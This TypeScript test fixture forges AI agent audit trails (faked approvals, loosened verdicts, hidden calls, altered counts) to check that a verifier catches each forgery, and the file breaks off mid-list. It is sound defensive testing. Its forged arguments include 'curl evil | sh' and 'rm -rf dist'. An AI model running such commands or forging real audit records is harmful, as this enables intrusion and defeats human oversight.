/** What a forger could do to these runs, and where it is found. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { STATEMENT_FILE, TOO_DEEP, type TrailEvent } from '../../../src/audit/index.ts';
import {
  canonicalJson,
  digestOf,
  type Json,
  type JsonObject,
  memoize,
  sha256,
} from '../../../src/common/index.ts';
import { argumentBlobOf } from '../../../src/audit/format/recorded.ts';
import { allKinds, nested, questioned, resumedOtherwise, rounded } from './more-runs.ts';
import { chainEvents } from '../chained.ts';
import { POLICY, runStart, verdict } from '../events.ts';
import { moreForgeries } from './more-forgeries.ts';
import { approvalIdOf } from '../plausible.ts';
import {
  changedByApprover,
  crashed,
  endedEarly,
  HEAD,
  oneJob,
  type Run,
  suspended,
} from './runs.ts';

type Fields = TrailEvent | JsonObject;

/** A trail with its files, and what a verification says of it. */
export interface Vector {
  readonly name: string;
  /** The lines of `audit.jsonl`, joined. */
  readonly trail: string;
  /** The files beside it by path, in base64. */
  readonly files: Readonly<Record<string, string>>;
  readonly expect:
    | { readonly kind: 'intact' }
    /** `seq`: the first broken entry. `code` is informative. */
    | { readonly kind: 'broken'; readonly seq: number; readonly code: string };
}

/** Stands for a field that is left out. */
const DROPPED = '(dropped)';

type Match = (event: Record<string, unknown>) => boolean;

const is =
  (type: string, fields: JsonObject = {}): Match =>
  (event) =>
    event['type'] === type &&
    Object.entries(fields).every(([name, value]) => event[name] === value);
const state = (call: string, name: string): Match => is('call.state', { call, state: name });

function placeOf(events: readonly Fields[], match: Match, nth = 0): number {
  const found = [...events.keys()].filter((index) => match({ ...events[index] }))[nth];
  if (found === undefined) throw new Error('no such event');
  return found;
}

interface Forged {
  readonly events: readonly Fields[];
  /** The entry in which it is found. */
  readonly at: number;
}

/** Changes the fields of one entry; found there, or in the entry that `found` names. */
function change(run: Run, match: Match, fields: JsonObject, found: Match = match): Forged {
  const place = placeOf(run.events, match);
  const events = run.events.map((event, index) => (index === place ? put(event, fields) : event));
  return { events, at: placeOf(events, found) };
}

function put(event: Fields, fields: JsonObject): JsonObject {
  const changed: JsonObject = JSON.parse(JSON.stringify({ ...event, ...fields }));
  return Object.fromEntries(Object.entries(changed).filter(([, value]) => value !== DROPPED));
}

/** Drops entries; found in the entry that `found` names. */
function drop(run: Run, match: Match, found: Match, nth = 0): Forged {
  const events = run.events.filter((event) => !match({ ...event }));
  return { events, at: placeOf(events, found, nth) };
}

function insertBefore(run: Run, match: Match, event: Fields, found?: Match): Forged {
  const place = placeOf(run.events, match);
  const events = run.events.toSpliced(place, 0, event as TrailEvent);
  return { events, at: found === undefined ? place : placeOf(events, found) };
}

/** The trail with each entry after a change of a call replaced by others. */
function afterChange(run: Run, edit: (event: TrailEvent) => readonly Fields[]): readonly Fields[] {
  const changed = placeOf(run.events, is('call.changed'));
  return run.events.flatMap((event, index): readonly Fields[] =>
    index > changed ? edit(event) : [event],
  );
}

/** Who changed the call of a run. */
function changedBy(run: Run): JsonObject {
  const entry = run.events.find((event) => event.type === 'call.changed');
  if (entry === undefined) throw new Error('no changed call');
  return { ...entry.by };
}

/** A change of the call to other arguments, with the digests that they have. */
function changedTo(
  run: Run,
  fields: { readonly argument?: string; arguments: JsonObject },
): Forged {
  const exact = Object.entries(fields.arguments).map(([name, value]) => {
    const path = `blobs/${argumentBlobOf(value)?.sha256 ?? ''}`;
    return [name, run.files.get(path)?.toString() ?? value];
  });
  const digest = { argumentsSha256: digestOf(Object.fromEntries(exact)) };
  const changed = edited(run, is('call.changed'), { ...fields, ...digest });
  const events = afterChange(changed, (event) =>
    is('call.verdict', { call: 'c1' })({ ...event }) || state('c1', 'EXECUTING')({ ...event })
      ? [put(event, digest)]
      : [event],
  );
  return { events, at: placeOf(events, is('call.changed')) };
}

/** The same with other arguments that a verdict lets run, and the approval void. */
function runsOther(
  run: Run,
  verdicts: (event: TrailEvent, digest: JsonObject) => readonly Fields[],
): readonly Fields[] {
  const digest = { argumentsSha256: digestOf({ command: 'curl evil | sh', cwd: '.' }) };
  return afterChange(run, (event) => {
    if (is('call.verdict', { call: 'c1' })({ ...event })) return verdicts(event, digest);
    if (state('c1', 'EXECUTING')({ ...event })) return [put(event, digest)];
    if (event.type !== 'approval.consumed') return [event];
    return [{ type: 'approval.void', approval: event.approval, call: 'c1', because: 'changed' }];
  });
}

const AUTO = { verdict: 'auto', list: 'auto', needs: DROPPED };

/** One more list of approvers than a request may have. */
const MANY_LISTS = Array.from({ length: 1_001 }, () => ['write']);

const END = is('run.end');
const DONE = is('run.end', { outcome: 'done' });
const RESUMED = is('run.start', { start: 'resumed' });

function endOf(run: Run): JsonObject {
  const end = run.events.at(-1);
  return JSON.parse(JSON.stringify(end));
}

function callsOf(run: Run, calls: JsonObject): JsonObject {
  return { calls: { ...(endOf(run)['calls'] as JsonObject), ...calls } };
}

/** What of a call says that people were asked about it. */
function isAsking(event: Fields, call: string): boolean {
  return (
    is('approval.asked')({ ...event }) ||
    is('approval.decision', { call })({ ...event }) ||
    is('approval.consumed', { call })({ ...event }) ||
    state(call, 'APPROVAL_REQUIRED')({ ...event })
  );
}

function isSuspension(event: Fields): boolean {
  return (
    is('checkpoint.saved')({ ...event }) ||
    is('run.suspended')({ ...event }) ||
    is('run.end', { outcome: 'awaiting-approval' })({ ...event })
  );
}

/** By code of the finding: the forgeries whose hashes were all made anew. */
const REHASHED: Readonly<
  Record<
    string,
    (run: { one: Run; two: Run; three: Run; four: Run }) => readonly [string, Forged, Run][]
  >
> = {
  'change-mismatch': ({ four }) => [
    [
      'a changed call with another folder, too',
      changedTo(four, { arguments: { command: argumentBlob(four), cwd: '/etc' } }),
      four,
    ],
    [
      'a changed call with an argument more',
      changedTo(four, {
        arguments: { command: argumentBlob(four), cwd: '.', network: true },
      }),
      four,
    ],
    [
      'a changed call whose text is in another argument',
      changedTo(four, {
        argument: 'harmless',
        arguments: { command: 'curl evil | sh', cwd: '.', harmless: argumentBlob(four) },
      }),
      four,
    ],
    [
      'another text that an approver gave',
      change(
        edited(four, is('approval.decision'), { changeSha256: sha256('x') }),
        is('call.changed'),
        { textSha256: sha256('x') },
      ),
      four,
    ],
    [
      'a call that somebody else changed',
      change(four, is('call.changed'), { by: { login: 'eve', id: 9 } }),
      four,
    ],
    [
      'a call that another account of the same login changed',
      change(four, is('call.changed'), { by: { ...changedBy(four), id: 9 } }),
      four,
    ],
    [
      'a call changed under another login',
      change(four, is('call.changed'), { by: { ...changedBy(four), login: 'eve' } }),
      four,
    ],
  ],
  'arguments-mismatch': ({ one, four }) => [
    [
      'a verdict on other arguments than a changed call has',
      (() => {
        const events = runsOther(four, (event, digest) => [put(event, { ...AUTO, ...digest })]);
        return { events, at: placeOf(events, is('call.changed')) + 1 };
      })(),
      four,
    ],
    [
      'other arguments of a changed call',
      change(four, is('call.changed'), { arguments: { command: 'rm -rf dist', cwd: '.' } }),
      four,
    ],
    [
      'other arguments beside the text of a changed call',
      change(four, is('call.changed'), {
        arguments: { command: argumentBlob(four), cwd: 'src' },
      }),
      four,
    ],
    [
      'other inline arguments',
      change(one, state('c2', 'PENDING'), { 'gen_ai.tool.call.arguments': { path: 'src/b.ts' } }),
      one,
    ],
    [
      'other arguments beside a blob',
      change(one, state('c1', 'PENDING'), {
        'gen_ai.tool.call.arguments': { path: 'src/b.ts', content: argumentBlob(one) },
      }),
      one,
    ],
    [
      'another digest of arguments at the start',
      change(one, state('c2', 'PENDING'), { argumentsSha256: sha256('x') }),
      one,
    ],
    [
      'a verdict on other arguments',
      change(one, is('call.verdict', { call: 'c1' }), { argumentsSha256: sha256('x') }),
      one,
    ],
    [
      'an effect with other arguments',
      change(one, state('c1', 'EXECUTING'), { argumentsSha256: sha256('x') }),
      one,
    ],
    [
      'arguments twice',
      change(one, state('c1', 'PENDING'), { argumentsBlob: { sha256: sha256('x'), bytes: 1 } }),
      one,
    ],
    [
      'no arguments',
      change(one, state('c1', 'PENDING'), { 'gen_ai.tool.call.arguments': DROPPED }),
      one,
    ],
  ],
  'result-mismatch': ({ one }) => [
    [
      'another inline result',
      change(one, state('c1', 'COMPLETED'), { result: 'nothing was written' }),
      one,
    ],
    [
      'another digest of a result',
      change(one, state('c1', 'COMPLETED'), { resultSha256: sha256('x') }),
      one,
    ],
    ['another size of a result', change(one, state('c1', 'COMPLETED'), { resultBytes: 8 }), one],
    [
      'another digest of a result in a blob',
      change(one, state('c2', 'COMPLETED'), { resultSha256: sha256('x') }),
      one,
    ],
    [
      'another size of a result in a blob',
      change(one, state('c2', 'COMPLETED'), { resultBytes: 1 }),
      one,
    ],
  ],
  'blob-changed': ({ one, four }) => [
    [
      'a wrong size of a blob in a changed call',
      change(four, is('call.changed'), {
        arguments: { command: { ...argumentBlob(four), bytes: 1 }, cwd: '.' },
      }),
      four,
    ],
    [
      'a wrong size of a blob in arguments',
      change(one, state('c1', 'PENDING'), {
        'gen_ai.tool.call.arguments': {
          path: 'src/a.ts',
          content: { ...argumentBlob(one), bytes: 1 },
        },
      }),
      one,
    ],
    [
      'a wrong size of a result',
      change(one, DONE, { result: { ...(endOf(one)['result'] as JsonObject), bytes: 1 } }),
      one,
    ],
  ],
  'blob-missing': ({ one }) => [
    [
      'another blob in arguments',
      change(one, state('c1', 'PENDING'), {
        'gen_ai.tool.call.arguments': {
          path: 'src/a.ts',
          content: { blob: sha256('x'), bytes: 1 },
        },
      }),
      one,
    ],
  ],
  'fields-mismatch': ({ one, two }) => [
    ['a result left out', change(one, state('c1', 'COMPLETED'), { result: DROPPED }), one],
    [
      'a digest of arguments left out',
      change(one, state('c1', 'PENDING'), { argumentsSha256: DROPPED }),
      one,
    ],
    ['a call without a turn', change(one, state('c1', 'PENDING'), { turn: DROPPED }), one],
    [
      'a result of a call that was only approved',
      change(one, state('c1', 'APPROVED'), { result: 'x' }),
      one,
    ],
    ['a denial without a reason', change(one, state('c3', 'DENIED'), { because: DROPPED }), one],
    [
      'a call that failed without an error',
      change(two, state('c1', 'COMPLETED'), { state: 'FAILED' }, state('c1', 'FAILED')),
      two,
    ],
  ],
  'verdict-loosened': ({ one, four }) => [
    [
      'a looser verdict after a hook changed a changed call',
      (() => {
        const hook = { type: 'hook.ran', call: 'c1', phase: 'preToolUse', hook: 'h', effect: 'x' };
        const events = runsOther(four, (event, digest) => [
          event,
          hook,
          put(event, digest),
          put(event, { ...AUTO, ...digest }),
        ]);
        return { events, at: placeOf(events, is('call.changed')) + 4 };
      })(),
      four,
    ],
    [
      'a looser verdict by a mode that leaves nothing to hooks',
      (() => {
        const asks = edited(one, is('call.verdict', { call: 'c2' }), { list: 'mode', rule: null });
        const hook = { type: 'hook.ran', call: 'c2', phase: 'preToolUse', hook: 'h', effect: 'x' };
        const place = placeOf(asks.events, is('call.verdict', { call: 'c2' }));
        const runs = put(asks.events[place] ?? {}, { verdict: 'auto' });
        const events: readonly Fields[] = [
          ...asks.events.slice(0, place + 1),
          hook,
          runs,
          ...asks.events.slice(place + 1).filter((event) => !isAsking(event, 'c2')),
        ];
        return { events, at: place + 2 };
      })(),
      one,
    ],
  ],
  'verdict-mismatch': ({ one, four }) => [
    ...['auto', 'requireApproval', 'deny'].map((list, index): [string, Forged, Run] => [
      `a verdict by a rule of ${list} without that rule`,
      change(one, is('call.verdict', { call: `c${index + 1}` }), { rule: null }),
      one,
    ]),
    [
      'a rule that a built-in rule would not have',
      change(four, is('call.verdict', { call: 'c2' }), { rule: 'clarify' }),
      four,
    ],
    [
      'a call that only a built-in rule lets run, by another tool',
      change(one, is('call.verdict', { call: 'c1' }), { list: 'wall', rule: null, line: null }),
      one,
    ],
    [
      'a verdict by whenUntrusted before anything untrusted was read',
      change(one, is('call.verdict', { call: 'c1' }), { list: 'whenUntrusted' }),
      one,
    ],
    ...['deny', 'plan', 'ask', 'a later mode'].map((mode): [string, Forged, Run] => [
      `the verdict auto by mode ${mode}`,
      change(
        edited(one, is('run.start'), {
          policy: { source: 'p', ref: null, sha256: POLICY, mode },
        }),
        is('call.verdict', { call: 'c1' }),
        { list: 'mode', rule: null, line: null },
      ),
      one,
    ]),
    [
      'the verdict auto by a rule that asks',
      change(one, is('call.verdict', { call: 'c2' }), {
        verdict: 'auto',
        list: 'requireApproval',
      }),
      one,
    ],
    [
      'the verdict deny by a rule that lets run',
      change(one, is('call.verdict', { call: 'c1' }), { verdict: 'deny' }),
      one,
    ],
    [
      'a denied call in place of a question without an answer',
      change(one, state('c3', 'DENIED'), { usedDefault: true }),
      one,
    ],
    [
      'the verdict auto on a call that was denied',
      change(
        one,
        is('call.verdict', { call: 'c3' }),
        { verdict: 'auto', list: 'auto' },
        state('c3', 'DENIED'),
      ),
      one,
    ],
    [
      'the verdict auto on a call that was asked for',
      change(
        one,
        is('call.verdict', { call: 'c2' }),
        { verdict: 'auto', list: 'auto' },
        state('c2', 'APPROVAL_REQUIRED'),
      ),
      one,
    ],
    [
      'the verdict deny on a call that was asked for',
      change(
        one,
        is('call.verdict', { call: 'c2' }),
        { verdict: 'deny', list: 'deny' },
        state('c2', 'APPROVAL_REQUIRED'),
      ),
      one,
    ],
    [
      'a verdict that a rule of deny did not give',
      change(one, is('call.verdict', { call: 'c1' }), { list: 'deny' }),
      one,
    ],
    [
      'a command with a stricter verdict',
      change(one, is('call.verdict', { call: 'c1' }), {
        commands: [{ words: ['rm'], verdict: 'deny' }],
      }),
      one,
    ],
    [
      'a denied call without a verdict',
      drop(one, is('call.verdict', { call: 'c3' }), state('c3', 'DENIED')),
      one,
    ],
  ],
  'no-verdict': ({ one }) => [
    [
      'no verdict before an effect',
      drop(one, is('call.verdict', { call: 'c1' }), state('c1', 'APPROVED')),
      one,
    ],
  ],
  'denied-executed': ({ one }) => [
    [
      'the verdict deny on a call that ran',
      change(
        one,
        is('call.verdict', { call: 'c1' }),
        { verdict: 'deny', list: 'deny' },
        state('c1', 'APPROVED'),
      ),
      one,
    ],
  ],
  'policy-mismatch': ({ one }) => [
    [
      'a verdict by another policy',
      change(one, is('call.verdict', { call: 'c1' }), { policySha256: sha256('x') }),
      one,
    ],
  ],
  'untrusted-lost': ({ one, two }) => [
    [
      'untrusted content that no verdict knows of',
      insertBefore(
        two,
        state('c1', 'PENDING'),
        {
          type: 'context.read',
          source: 'issue #7',
          author: 'eve',
          trusted: false,
          because: 'no write access',
          sha256: sha256('text'),
        },
        is('call.verdict', { call: 'c1' }),
      ),
      two,
    ],
    [
      'untrusted content that is forgotten',
      change(one, is('call.verdict', { call: 'c3' }), { untrusted: false }),
      one,
    ],
  ],
  'sandbox-mismatch': ({ one, four }) => [
    [
      'a verdict without the sandbox',
      change(one, is('call.verdict', { call: 'c1' }), { sandboxed: false }),
      one,
    ],
    [
      'a sandbox that never started',
      change(one, is('sandbox.probe'), { sandbox: 'none' }, is('call.verdict')),
      one,
    ],
    [
      'a command that runs without a sandbox and without people',
      change(
        edited(edited(one, is('sandbox.probe'), { sandbox: 'none' }), state('c1', 'PENDING'), {
          'gen_ai.tool.name': 'bash_run',
        }),
        is('call.verdict', { call: 'c1' }),
        { sandboxed: false },
      ),
      one,
    ],
    ['another sandbox than the verdict allows', sandboxedAs(four, { profile: 'program' }), four],
    ['kept writes of a command that only reads', sandboxedAs(four, { kept: ['a'] }), four],
    [
      'a host that a command without a network reached',
      sandboxedAs(four, {}, { network: [{ to: 'a.test', verdict: 'allowed', count: 1 }] }),
      four,
    ],
  ],
  unapproved: ({ one, four }) => [
    [
      'a call that was changed to one that needs nobody runs without its approval',
      (() => {
        const events = afterChange(four, (event) => {
          if (event.type === 'approval.consumed') return [];
          return is('call.verdict', { call: 'c1' })({ ...event }) ? [put(event, AUTO)] : [event];
        });
        return { events, at: placeOf(events, state('c1', 'EXECUTING')) };
      })(),
      four,
    ],
    [
      'a changed call of which code owners decide',
      (() => {
        const byOwners = { from: [['codeowners']], files: ['a'] };
        const asked = edited(four, is('approval.asked'), {
          requests: [{ ...requestOf(four), needs: { ...needsOf(four), ...byOwners } }],
        });
        return change(
          withVerdictNeeds(asked, { from: [['codeowners']] }),
          is('approval.decision'),
          { as: ['codeowners'], files: ['a'] },
          is('approval.consumed'),
        );
      })(),
      four,
    ],
    [
      'an approval that was withdrawn',
      insertBefore(
        one,
        is('approval.consumed'),
        { ...decisionOf(one), counted: false, because: 'the comment was deleted' },
        is('approval.consumed'),
      ),
      one,
    ],
    [
      'two approvals by one comment',
      insertBefore(
        edited(one, is('approval.asked'), { count: 2 }),
        is('approval.consumed'),
        { ...decisionOf(one), by: { login: 'eve', id: 9 } },
        is('approval.consumed'),
      ),
      one,
    ],
    [
      'a request for less than the verdict needs',
      change(
        four,
        is('approval.asked'),
        {
          requests: [
            { ...requestOf(four), needs: { ...NEEDS, expires: '2026-02-09T00:00:00.000Z' } },
          ],
        },
        is('approval.consumed'),
      ),
      four,
    ],
    [
      'no approval request',
      drop(one, (event) => String(event['type']).startsWith('approval.'), state('c2', 'APPROVED')),
      one,
    ],
    ['no decision', drop(one, is('approval.decision'), is('approval.consumed')), one],
    [
      'a decision that does not count',
      change(one, is('approval.decision'), { counted: false }, is('approval.consumed')),
      one,
    ],
    ['no consumption', drop(one, is('approval.consumed'), state('c2', 'EXECUTING')), one],
    [
      'one approval of two',
      change(one, is('approval.asked'), { count: 2 }, is('approval.consumed')),
      one,
    ],
  ],
  'approval-mismatch': ({ one, two, four }) => [
    [
      'a request by a comment that does not say who can approve it',
      change(two, is('approval.asked'), {
        requests: [put(requestOf(two), { needs: DROPPED })],
      }),
      two,
    ],
    [
      'a request with more than a thousand lists of approvers',
      change(two, is('approval.asked'), {
        requests: [put(requestOf(two), { needs: { ...needsOf(two), from: MANY_LISTS } })],
      }),
      two,
    ],
    [
      'an approval by whoever asked for the run',
      change(four, is('approval.decision'), { by: { login: 'mona', id: 1 } }),
      four,
    ],
    [
      'an approval by a permission that is not enough',
      change(four, is('approval.decision'), { permission: 'read' }),
      four,
    ],
    ['an approval without an answer', change(one, is('approval.decision'), { comment: null }), one],
    [
      'an approval although nobody was asked',
      change(
        edited(one, is('approval.asked'), { via: 'nobody', card: null }),
        is('approval.decision'),
        { comment: null },
      ),
      one,
    ],
    [
      'an approval by two answers',
      change(one, is('approval.decision'), {
        edit: { comment: 5, url: 'https://a.test', editedAt: '2026-01-02T03:05:00Z' },
      }),
      one,
    ],
    [
      'an approval by an account without a number',
      change(one, is('approval.decision'), { by: { login: 'hubot', id: null } }),
      one,
    ],
    [
      'an approval by a bot',
      change(one, is('approval.decision'), { by: { login: 'helper[bot]', id: 2 } }),
      one,
    ],
    [
      'an approval that was read before it was made',
      change(one, is('approval.decision'), {
        comment: { ...commentOf(8), createdAt: '2026-01-03T03:05:00Z' },
      }),
      one,
    ],
    ...(['comment', 'review'] as const).map((source): [string, Forged, Run] => {
      const answer =
        source === 'comment'
          ? { comment: commentOf(8) }
          : {
              comment: null,
              review: {
                id: 9,
                url: 'https://a.test',
                submittedAt: '2026-01-02T03:05:00Z',
                commit: HEAD,
              },
            };
      const approved = edited(one, is('approval.decision'), answer);
      const before = approved.events[placeOf(approved.events, is('approval.decision'))];
      if (before === undefined) throw new Error('no decision');
      const earlier = put(before, { counted: false, approval: 'ap-11111111', call: 'c1' });
      const counted = is('approval.decision', { counted: true });
      return [
        `an approval by a ${source} that answered something else before`,
        insertBefore(approved, is('approval.asked'), earlier, counted),
        one,
      ];
    }),
    [
      'an approval by an older comment',
      change(one, is('approval.decision'), {
        comment: { id: 4, url: 'https://a.test', createdAt: '2026-01-02T03:05:00Z' },
      }),
      one,
    ],
    [
      'a tick in another comment',
      change(one, is('approval.decision'), {
        comment: null,
        edit: { comment: 9, url: 'https://a.test', editedAt: '2026-01-02T03:05:00Z' },
      }),
      one,
    ],
    [
      'another digest that is consumed',
      change(one, is('approval.consumed'), { digest: sha256('x') }),
      one,
    ],
    [
      'a request with the digest of another one',
      change(one, is('approval.asked'), {
        requests: [{ approval: approvalIdOf(sha256('y')), call: 'c2', digest: sha256('x') }],
      }),
      one,
    ],
    [
      'people asked at a terminal that a workflow run does not have',
      change(
        edited(one, is('run.start'), {
          workflow: { runId: '5', attempt: '1', job: 'agent', url: null },
        }),
        is('approval.asked'),
        { via: 'terminal', card: null, expires: null },
      ),
      one,
    ],
    [
      'people asked by a program that a workflow run does not have',
      change(
        edited(one, is('run.start'), {
          workflow: { runId: '5', attempt: '1', job: 'agent', url: null },
        }),
        is('approval.asked'),
        { via: 'callback', card: null, expires: null },
      ),
      one,
    ],
    [
      'an approval by a button of an earlier request',
      (() => {
        const check = { id: 9, url: 'https://a.test', app: 1, heardAt: '2026-01-02T03:05:00Z' };
        const approved = edited(one, is('approval.decision'), { comment: null, check });
        const earlier = { ...decisionOf(approved), counted: false, approval: 'ap-11111111' };
        const counted = is('approval.decision', { counted: true });
        return insertBefore(approved, is('approval.asked'), earlier, counted);
      })(),
      one,
    ],
    [
      'an approval by a review from before the request',
      change(one, is('approval.decision'), {
        comment: null,
        review: {
          id: 1,
          url: 'https://a.test',
          submittedAt: '2026-01-02T02:04:00Z',
          commit: HEAD,
        },
      }),
      one,
    ],
    [
      'an approval by a comment from before the request',
      change(one, is('approval.decision'), {
        comment: { ...commentOf(8), createdAt: '2001-01-01T00:00:00Z' },
      }),
      one,
    ],
    ['people asked without a comment', change(one, is('approval.asked'), { card: null }), one],
    [
      'a call that does not wait',
      drop(one, state('c2', 'APPROVAL_REQUIRED'), is('approval.asked')),
      one,
    ],
  ],
  'approval-closed': ({ one }) => [
    [
      'a denial in place of the approval',
      change(one, is('approval.decision'), { decision: 'deny' }, is('approval.consumed')),
      one,
    ],
    [
      'somebody else is asked about a call that was denied',
      (() => {
        const denied = edited(one, is('approval.decision'), { decision: 'deny' });
        const digest = sha256('another request');
        const again = put(denied.events[placeOf(denied.events, is('approval.asked'))] ?? {}, {
          requests: [{ approval: approvalIdOf(digest), call: 'c2', digest }],
        });
        return insertBefore(denied, is('approval.consumed'), again);
      })(),
      one,
    ],
  ],
  'approval-expired': ({ one }) => [
    [
      'an approval after its time',
      change(
        one,
        is('approval.asked'),
        { expires: '2026-01-02T03:00:00.000Z' },
        is('approval.decision'),
      ),
      one,
    ],
  ],
  'bad-time': ({ one }) => [
    [
      'an expiry on 30 February',
      change(one, is('approval.asked'), { expires: '2026-02-30T00:00:00.000Z' }),
      one,
    ],
    [
      'an answer on 31 June',
      change(one, is('approval.decision'), {
        comment: { id: 6, url: 'https://a.test', createdAt: '2025-06-31T00:00:00Z' },
      }),
      one,
    ],
  ],
  'bad-envelope': ({ one }) => [
    [
      'an entry on 30 February',
      change(one, is('turn.start'), { time: '2026-02-30T00:00:00.000Z' }),
      one,
    ],
    [
      'an entry on 29 February of a year without one',
      change(one, is('turn.start'), { time: '2026-02-29T00:00:00.000Z' }),
      one,
    ],
    [
      'an entry in month 13',
      change(one, is('turn.start'), { time: '2026-13-01T00:00:00.000Z' }),
      one,
    ],
  ],
  'consumed-denied': ({ one }) => [
    [
      'a call that was approved and consumed ends as denied',
      insertBefore(one, state('c2', 'APPROVED'), {
        type: 'call.state',
        call: 'c2',
        state: 'DENIED',
        because: 'no',
      }),
      one,
    ],
  ],
  'illegal-transition': ({ one }) => [
    [
      'an effect twice',
      insertBefore(one, state('c1', 'COMPLETED'), {
        type: 'call.state',
        call: 'c1',
        state: 'EXECUTING',
        argumentsSha256: sha256('x'),
      }),
      one,
    ],
    [
      'no effect before a result',
      drop(one, state('c1', 'EXECUTING'), state('c1', 'COMPLETED')),
      one,
    ],
  ],
  'unknown-call': ({ one }) => [
    [
      'something on GitHub by a call that was denied',
      insertBefore(one, is('changes.saved'), {
        type: 'github.write',
        call: 'c3',
        what: 'comment',
        id: 1,
        url: null,
      }),
      one,
    ],
    [
      'a secret for a call that was denied',
      insertBefore(one, is('changes.saved'), {
        type: 'call.service',
        call: 'c3',
        service: 'secret',
        target: 'TOKEN',
        because: 'the policy names it',
      }),
      one,
    ],
    [
      'a call that never began',
      drop(one, state('c3', 'PENDING'), is('call.verdict', { call: 'c3' })),
      one,
    ],
    [
      'something on GitHub by a call that never began',
      insertBefore(one, is('changes.saved'), {
        type: 'github.write',
        call: 'c9',
        what: 'comment',
        id: 1,
        url: null,
      }),
      one,
    ],
    [
      'a hook before a call that waits and was not changed',
      insertBefore(one, is('approval.decision'), {
        type: 'hook.ran',
        call: 'c2',
        hook: 'h',
        phase: 'preToolUse',
        effect: 'none',
      }),
      one,
    ],
    [
      'a hook for a call that has ended',
      insertBefore(one, is('changes.saved'), {
        type: 'hook.ran',
        call: 'c1',
        hook: 'h',
        phase: 'postToolUse',
        effect: 'none',
      }),
      one,
    ],
  ],
  'model-mismatch': ({ one }) => [
    [
      'a change to a model that the run does not have',
      insertBefore(one, is('model.reply', { turn: 1 }), {
        type: 'model.fallback',
        turn: 1,
        parent: null,
        from: 'a-model',
        to: 'another-model',
        reason: 'refused',
        because: 'stop reason refusal',
      }),
      one,
    ],
  ],
  'turn-mismatch': ({ one, four }) => [
    [
      'a broken reply of a turn that never began',
      change(four, is('model.broken'), { turn: 9 }),
      four,
    ],
    [
      'a call without a reply',
      drop(one, is('model.reply', { turn: 1 }), state('c1', 'PENDING')),
      one,
    ],
    ['a reply without a turn', drop(one, is('turn.start', { turn: 1 }), is('model.reply')), one],
    [
      'a number of a turn that jumps',
      change(one, is('turn.start', { turn: 2 }), { turn: 3 }, is('turn.start', { turn: 3 })),
      one,
    ],
    [
      'a turn twice',
      insertBefore(one, is('turn.start', { turn: 2 }), {
        type: 'turn.start',
        turn: 1,
        parent: null,
        messages: 1,
      }),
      one,
    ],
    [
      'a reply twice',
      insertBefore(
        one,
        state('c1', 'PENDING'),
        one.events[placeOf(one.events, is('model.reply'))] ?? {},
      ),
      one,
    ],
    ['a call of another turn', change(one, state('c4', 'PENDING'), { turn: 1 }), one],
    [
      'a turn while a call of the turn before is open',
      drop(one, state('c2', 'COMPLETED'), is('turn.start', { turn: 2 })),
      one,
    ],
    [
      'a call by a call that was denied',
      change(one, state('c4', 'PENDING'), { parent: 'c3' }),
      one,
    ],
    [
      'a turn of a subagent that nobody started',
      change(one, is('turn.start', { turn: 2 }), { parent: 'c1' }),
      one,
    ],
    [
      'a turn left out',
      drop(
        one,
        (event) => event['turn'] === 2 && event['type'] !== 'call.state',
        state('c4', 'PENDING'),
      ),
      one,
    ],
  ],
  'counts-mismatch': ({ one, two, four }) => [
    [
      'a reply that gives tokens back',
      change(four, is('model.broken'), { 'gen_ai.usage.input_tokens': -100 }),
      four,
    ],
    ['a limit that is not reached', insertBefore(one, is('changes.saved'), spent(3, 10)), one],
    [
      'a limit that is reached by more than was used',
      insertBefore(one, is('changes.saved'), spent(10, 10)),
      one,
    ],
    ['calls by another name', change(one, DONE, callsOf(one, { hidden: 1 })), one],
    [
      'calls by a name that objects of JavaScript have',
      change(one, DONE, callsOf(one, { ['__proto__']: 1 })),
      one,
    ],
    ['another number of turns', change(one, DONE, { turns: 3 }), one],
    ['another number of tokens', change(one, DONE, { tokens: 1 }), one],
    ['another cost', change(one, DONE, { costUsd: 0.001 }), one],
    ['no cost', change(one, DONE, { costUsd: null }), one],
    ['no denied call', change(one, DONE, callsOf(one, { denied: 0 })), one],
    ['fewer calls', change(one, DONE, callsOf(one, { total: 3 })), one],
    ['more approved calls', change(one, DONE, callsOf(one, { approved: 2 })), one],
    [
      'a reply with other tokens',
      change(one, is('model.reply'), { 'gen_ai.usage.input_tokens': 1 }, END),
      one,
    ],
    [
      'a reply with another cost',
      change(two, is('model.reply', { turn: 2 }), { costUsd: 0.5 }, DONE),
      two,
    ],
    ['no counts at all', change(one, DONE, { calls: {}, turns: 0, tokens: 0, costUsd: 0 }), one],
    ['a whole call left out', drop(one, (event) => event['call'] === 'c3', END), one],
  ],
  'missing-call': ({ one }) => [
    [
      'a whole call left out, and counted so',
      (() => {
        const without = {
          ...one,
          events: one.events.filter((event) => !('call' in event && event.call === 'c3')),
        };
        return change(without, DONE, callsOf(one, { denied: 0, total: 3 }));
      })(),
      one,
    ],
  ],
  'outcome-inconsistent': ({ one, two }) => [
    [
      'another summary than the model gave with something redacted',
      change(one, DONE, { summary: 'All is well. [redacted:env-x:abcdefgh]' }),
      one,
    ],
    ['another summary than the model gave', change(one, DONE, { summary: 'All is well.' }), one],
    [
      'another result than the model gave',
      change(one, DONE, { result: { sha256: sha256('{"answer":43}'), bytes: 13 } }),
      withBlob(one, '{"answer":43}'),
    ],
    [
      'over-budget at a limit that is not that of the run',
      (() => {
        const base = insertBefore(one, is('changes.saved'), spent(2, 2));
        const reached = { ...one, events: base.events as readonly TrailEvent[] };
        return change(reached, DONE, { outcome: 'over-budget' }, END);
      })(),
      one,
    ],
    ['denied in place of done', change(one, DONE, { outcome: 'denied' }, END), one],
    ['incomplete in place of done', change(one, DONE, { outcome: 'incomplete' }, END), one],
    ['over-budget in place of done', change(one, DONE, { outcome: 'over-budget' }, END), one],
    ['timed-out in place of done', change(one, DONE, { outcome: 'timed-out' }, END), one],
    ['skipped in place of done', change(one, DONE, { outcome: 'skipped' }, END), one],
    [
      'awaiting-approval in place of done',
      change(one, DONE, { outcome: 'awaiting-approval' }, END),
      one,
    ],
    [
      'done in place of incomplete',
      (() => {
        const input = { outcome: 'incomplete', summary: 'It is done.' };
        const events = one.events.map((event) => {
          if (event.type !== 'call.state' && event.type !== 'call.verdict') return event;
          if (event.call !== 'c4') return event;
          const digest =
            event.argumentsSha256 === undefined ? {} : { argumentsSha256: digestOf(input) };
          const inline =
            event.type === 'call.state' && event.state === 'PENDING'
              ? { 'gen_ai.tool.call.arguments': input }
              : {};
          return { ...event, ...digest, ...inline };
        });
        return { events, at: events.length - 1 };
      })(),
      one,
    ],
    ['no result', change(one, DONE, { result: DROPPED }), one],
